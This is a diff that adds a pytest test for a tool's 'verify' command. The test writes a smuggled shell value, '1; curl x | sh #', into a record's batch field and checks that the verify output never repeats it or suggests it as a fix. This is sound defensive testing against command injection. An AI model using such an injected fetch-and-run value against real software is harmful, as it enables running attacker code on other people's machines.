@@ -65,6 +65,21 @@ def test_verify_names_the_damaged_object_and_the_command_that_fixes_it(
     assert cm.command(TOOL, "verify").ok
 
 
+def test_verify_makes_no_command_of_a_hostile_record(cm: CM, served: dict[str, Path]) -> None:
+    assert cm.command(TOOL, "prefetch", "_onnx,_opset-8").ok
+    path = data(cm, delivered(served["onnx-opset-8"]))
+    record = path.with_name("record.json")
+    content = json.loads(record.read_text(encoding="utf-8"))
+    content["batch"] = "1; curl x | sh #"
+    record.chmod(0o644)
+    record.write_text(json.dumps(content), encoding="utf-8")
+    flip(path)
+    for flag in ("", "--json"):
+        result = cm.command(TOOL, "verify", *filter(None, [flag]))
+        assert result.code == 1
+        assert "curl" not in result.text and "batch_size" not in result.text
+
+
 def test_verify_sees_a_lost_object_and_one_of_unknown_origin(
     cm: CM, served: dict[str, Path]
 ) -> None:
